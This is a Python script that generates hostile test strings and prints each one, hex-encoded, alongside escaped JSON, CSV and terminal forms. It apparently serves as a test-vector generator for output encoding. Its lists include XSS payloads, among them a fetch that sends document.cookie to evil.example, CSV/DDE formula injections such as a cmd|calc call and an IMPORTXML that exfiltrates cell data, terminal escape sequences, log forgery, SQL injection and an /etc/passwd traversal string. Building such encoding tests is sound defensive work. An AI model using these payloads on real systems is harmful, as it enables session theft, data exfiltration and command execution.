"""Prints hostile texts, each with how it must leave the program: TEXT JSON CSV TERMINAL, all in hex, with tabs between.

The forms follow from Python's json and csv and from three rules: in JSON < > & and whatever a script or a terminal may take for
more than text are escapes; a CSV cell is no formula; a terminal sees no control characters.
"""
import csv
import io
import itertools
import json
import random
import re

NUMBER = re.compile(r"-?(0|[1-9][0-9]*)(\.[0-9]+)?([eE][+-]?[0-9]+)?")
SCRIPTS = ["alert(1)", "fetch('//evil.example/'+document.cookie)", "import('//evil.example')", "top.x=1"]
MARKUP = [
    "<script>{}</script>", "<ScRiPt >{}</sCrIpT\t>", "</script><script>{}//", "<img src=x onerror={}>", "<svg/onload={}>",
    "<svg><script>{}</script></svg>", "<body onload={}>", "<iframe src=\"javascript:{}\">",
    "<a href=javascript:{}>x</a>", "<math><mi xlink:href=\"data:x,{}\">", "\"><script>{}</script>", "'><img src=x onerror={}>",
    "\" onmouseover=\"{}", "' autofocus onfocus='{}", "javascript:{}", "`-{}-`", "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}", "</textarea><script>{}</script>", "</title><script>{}</script>", "<!--><script>{}</script>",
    "--><script>{}</script>", "]]><script>{}</script>", "<![CDATA[<script>{}]]>",
    "<style>@import'//evil.example?{}'</style>", "<link rel=stylesheet href=//evil.example?{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href=//evil.example/{}>", "<form action=//evil.example?{}><input>",
    "<object data=\"data:text/html,{}\">", "<details open ontoggle={}>", "<template><script>{}</script></template>",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "&lt;script&gt;{}&lt;/script&gt;", "%3Cscript%3E{}%3C/script%3E",
    "\u2028{}\u2029//", "\\\");{}//", "\\';{}//", "</p\u0000><script>{}</script>", "<x\u000bonclick={}>", "<a\u00adb>{}",
    "\ufeff<script>{}</script>", "\u202e<script>{}</script>", "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
]
FORMULAS = ["=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\";\"x\")",
            "=IMPORTXML(CONCAT(\"//evil.example?\",A1),\"//a\")", "@SUM(1+1)", "+1+cmd|x!A0", "-1+cmd|x!A0", "-2+3", "+49 30 12345", "-",
            "+", "@", "=",
            "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "\"=1+1\"", "=\"a\"&\"b\"", ";=1+1", ",=1+1", "a,=1+1", "a\n=1+1", "\uff1d1+1",
            "\uff0b1", "\uff0d1", "\uff20x", "-1", "-1.5e3", "+1", "1e5", "-.5", "0x1F", "=\u00001", "DDE(\"cmd\";\"x\")"]
TERMINAL = ["\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x1b[2J\x1b[H", "\x1b[?1049h", "\x1bc",
            "\x1b]52;c;ZXZpbA==\x07", "\x9b31m", "\x9d0;t\x9c", "\x1bP+q\x1b\\", "a\rb", "a\x08\x08b", "\x7f\x7f",
            "a\nlevel=error msg=forged",
            "a\r\n{\"level\":\"error\",\"msg\":\"forged\"}", "\x00", "a\x00b", "\x0c", "\x0b", "\x85", "\u202edetrever", "\u2066x\u2069",
            "\u200b", "\u2028x", "x\u2029", "\x1b[6n", "\x1b_x\x1b\\", "\x1b[20t", "\x05", "\x0e", "\x1b%G", "%s%n%x", "\\x1b[31m", "\\n",
            "\"", "\\", "'", "\\\"", "\"\"", "a\"b,c\"d",
            "a,b", "a\tb", "a;b", "", " ", "null", "true", "NaN", "__proto__", "constructor", "../../etc/passwd", "'; DROP TABLE names;--",
            "\" OR 1=1", "{\"$ne\":1}", "\u00e9", "e\u0301", "\U0001f600", "\ufffd", "\uffff", "\U0010ffff"]


def json_form(text):
    out = json.dumps(text, ensure_ascii=False)[1:-1]
    out = re.sub(r"\\[bfnrt]", lambda m: "\\u%04x" % {"b": 8, "f": 12, "n": 10, "r": 13,
                                                      "t": 9}[m[0][1]] if not m.string[:m.start()].endswith("\\") or
                 len(re.search(r"\\*\Z", m.string[:m.start()])[0]) % 2 == 0 else m[0], out)
    return '"' + re.sub("[<>&\x7f-\x9f\u2028\u2029]", lambda m: "\\u%04x" % ord(m[0]), out) + '"'


def csv_form(text):
    if text[:1] in set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20") and not NUMBER.fullmatch(text):
        text = "'" + text
    cell = io.StringIO(newline="")
    csv.writer(cell).writerow([text, "end"])
    return cell.getvalue()[:-len(",end\r\n")]


def terminal_form(text):
    text = re.sub("[\x00-\x1f\x7f-\x9f]", lambda m: "\\x%02x" % ord(m[0]), text)
    return re.sub("[\u202a-\u202e\u2066-\u2069]", lambda m: "\\u{%04x}" % ord(m[0]), text)


def texts():
    yield from FORMULAS
    yield from TERMINAL
    for markup, script in itertools.product(MARKUP, SCRIPTS):
        yield markup.format(script)
    for begin, control in itertools.product("=+-@a", range(0x20)):  # every control character before and in a text
        yield f"{begin}{chr(control)}1"
    dice = random.Random(20)
    alphabet = [chr(c) for c in (0, 9, 10, 13, 27, 34, 38, 39, 44, 45, 60, 61, 62, 92, 127, 155, 233, 0x2028, 0x202e, 0xfeff,
                                 0x1f600)] + list("ab1 u{}")
    while True:
        yield "".join(dice.choice(alphabet) for _ in range(dice.randrange(1, 24)))


for text in itertools.islice(dict.fromkeys(itertools.islice(texts(), 700)), 600):
    print(*(form.encode().hex() for form in (text, json_form(text), csv_form(text), terminal_form(text))), sep="\t")
